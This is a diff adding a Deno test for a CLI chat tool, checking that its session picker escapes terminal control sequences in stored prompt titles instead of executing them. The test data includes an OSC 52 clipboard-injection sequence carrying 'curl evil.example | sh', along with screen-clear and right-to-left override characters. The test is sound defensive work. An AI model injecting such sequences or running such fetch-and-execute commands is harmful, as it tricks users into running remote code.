@@ -31,6 +31,7 @@ import { runCli } from "../_helpers/cli.ts";
 import { startFakeAnthropic } from "../_helpers/fake_providers.ts";
 import { tmpWorkspace } from "../_helpers/tmp_workspace.ts";
 import { after, openChat, toolResults } from "../_helpers/tmux_chat.ts";
+import { pickList } from "../../cli/session_picker.ts";
 
 const ESC = "\x1b";
 /** OSC 52: put `curl evil.example | sh` on the clipboard. */
@@ -115,4 +116,26 @@ Deno.test("run never sends the model's controls to a terminal: stderr log lines 
   assertEquals(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/.test(out.stderr), false, out.stderr);
   assertStringIncludes(out.stderr, "\\x1b]52;c;");
   assertStringIncludes(out.stderr, "\\x9b2J<U+202E>");
+});
+
+Deno.test("chat's session picker shows a stored first prompt's controls, never obeys them", () => {
+  // A prompt piped from a file someone else wrote (`cat issue.txt | rousseau chat`).
+  const now = Date.parse("2026-01-02T00:00:00Z");
+  const list = pickList([{
+    id: "0b7c6a8e-2f4d-4c1a-9e3b-5d6f7a8b9c0d",
+    createdAt: "2026-01-01T23:59:00Z",
+    updatedAt: "2026-01-01T23:59:00Z",
+    workspace: "/ws",
+    provider: "anthropic",
+    model: "m",
+    title: `fix it${OSC52}${CLEAR}${RLO}`,
+    messages: 2,
+    turns: 1,
+  }], now);
+  // Shown, then cut to its 70 characters.
+  assertEquals(
+    list,
+    `  1  1m     1 turn  fix it\\x1b]52;c;${btoa("curl evil.example | sh")}\\x07\\x1b[2J` +
+      "\\x1b[H\\x1b…\n",
+  );
 });
